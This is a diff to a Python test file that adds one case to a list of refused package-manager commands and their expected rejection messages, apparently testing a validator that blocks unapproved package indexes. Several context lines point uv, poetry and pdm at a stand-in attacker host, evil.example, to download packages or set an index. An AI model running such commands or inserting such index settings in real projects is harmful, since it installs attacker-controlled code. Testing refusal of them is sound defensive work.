@@ -127,6 +127,7 @@ REFUSED = [
     ("uv run --with six,https://evil.example/six-1.0.zip " + CODE, "no index of the scenario"),
     ("uv sync --index evil=https://evil.example/simple", "they are at a.example and a.example:80"),
     ("uv auth login https://evil.example", "no index of the scenario is at 'evil.example'"),
+    ("uv auth login links", "is not an http(s) URL"),
     ("poetry source add x https://evil.example/simple", "no index of the scenario is at"),
     ("poetry config repositories.x https://evil.example", "no index of the scenario is at"),
     ("pdm config pypi.url https://evil.example/simple", "no index of the scenario is at"),
